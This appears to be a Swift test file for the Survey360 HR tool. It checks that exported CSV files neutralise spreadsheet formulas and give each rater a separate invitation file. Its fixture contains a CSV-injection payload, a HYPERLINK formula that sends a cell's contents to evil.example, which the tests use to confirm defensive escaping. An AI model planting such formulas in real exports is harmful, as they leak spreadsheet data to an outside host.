import CSV
import Foundation
import Survey360Core
import Testing

@testable import Survey360CLI
@testable import Survey360Import

/// What Survey360 writes for HR to open (issue #10, items 3 and 9): no cell
/// a spreadsheet would run as a formula, and one invitation file per rater.
@Suite struct ExportSafetyTests {
    static let formula = #"=HYPERLINK("https://evil.example/?"&H3,"Open")"#

    static let campaign = Campaign(
        id: "2026-Q4", title: "Q4", opens: CalendarDate(year: 2026, month: 12, day: 1)!,
        closes: CalendarDate(year: 2026, month: 12, day: 31)!, language: .english, state: .open)

    static func organisation(_ people: [(id: String, name: String)]) -> Organisation {
        Organisation(
            departments: [Department(id: "D1", name: "Ward")],
            people: people.map {
                Person(id: PersonID($0.id), name: $0.name, email: "\($0.id)@x.example", departmentID: "D1")
            },
            services: [], processes: [])
    }

    @Test(arguments: ["=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
    func aFormulaStartIsNeutralised(_ field: String) {
        #expect(SpreadsheetCell.neutralised(field) == "'" + field)
    }

    @Test(arguments: ["Wang", "1-2", "a=b", "", "'quoted", "王"])
    func otherFieldsAreKept(_ field: String) {
        #expect(SpreadsheetCell.neutralised(field) == field)
    }

    @Test func invitationsCSVHoldsNoFormula() throws {
        let directory = try CommandRunner.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: directory) }
        let exporter = InvitationExporter(
            campaign: Self.campaign,
            organisation: Self.organisation([("P1", Self.formula), ("P2", "-Lee"), ("P3", "Wu")]),
            baseURL: "https://survey.example", from: "hr@x.example", isReminder: false)
        _ = try exporter.write(questionnairesByRater: ["P1": 1, "P2": 1, "P3": 1], to: directory)
        let reader = try CSVReader(
            string: String(contentsOf: directory.appendingPathComponent("invitations.csv"), encoding: .utf8),
            hasHeaderRow: true)
        var names: [String] = []
        while let row = reader.next() { names.append(row[1]) }
        #expect(names == ["'" + Self.formula, "'-Lee", "Wu"])
    }

    @Test func organisationFilesHoldNoFormula() throws {
        let files = try OrganisationCSVWriter().files(for: Self.organisation([("P1", Self.formula)]))
        let people = String(decoding: try #require(files.first { $0.name == "people.csv" }).contents, as: UTF8.self)
        #expect(people.contains(#""'=HYPERLINK(""https://evil.example/?""&H3,""Open"")""#))
    }

    @Test func assignmentsExportHoldsNoFormula() async throws {
        let workspace = try CLIWorkspace()
        let hospital = workspace.directory.appendingPathComponent("hospital")
        try FileManager.default.copyItem(
            at: CommandRunner.repositoryRoot.appendingPathComponent("samples/hospital"), to: hospital)
        let people = hospital.appendingPathComponent("people.csv")
        var lines = try String(contentsOf: people, encoding: .utf8).split(separator: "\n").map(String.init)
        var fields = lines[1].split(separator: ",", omittingEmptySubsequences: false).map(String.init)
        fields[1] = "\"" + Self.formula.replacingOccurrences(of: "\"", with: "\"\"") + "\""
        lines[1] = fields.joined(separator: ",")
        try Data((lines.joined(separator: "\n") + "\n").utf8).write(to: people)
        await workspace.run(["org", "import", hospital.path])
        await workspace.run(["campaign", "create", "2026-Q4"])
        await workspace.run(["campaign", "assign", "2026-Q4"])
        let out = workspace.directory.appendingPathComponent("pairs.csv").path
        await workspace.run(["assignments", "export", "2026-Q4", "--out", out])
        let reader = try CSVReader(string: String(contentsOfFile: out, encoding: .utf8), hasHeaderRow: true)
        var cells: [String] = []
        while let row = reader.next() { cells += row }
        #expect(cells.contains("'" + Self.formula))
        #expect(!cells.contains { $0.hasPrefix("=") || $0.hasPrefix("+") || $0.hasPrefix("-") || $0.hasPrefix("@") })
    }

    @Test func idsThatOnceSharedAFileGetOneEach() throws {
        let directory = try CommandRunner.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: directory) }
        let exporter = InvitationExporter(
            campaign: Self.campaign, organisation: Self.organisation([("X.1", "A"), ("X/1", "B"), ("X_1", "C")]),
            baseURL: "https://survey.example", from: "hr@x.example", isReminder: false)
        let issued = try exporter.write(questionnairesByRater: ["X.1": 1, "X/1": 1, "X_1": 1], to: directory)
        #expect(issued.raters == 3)
        let files = try FileManager.default.contentsOfDirectory(atPath: directory.appendingPathComponent("eml").path)
        #expect(files.sorted() == ["X.1.eml", "X_2F1.eml", "X_5F1.eml"])
    }
}
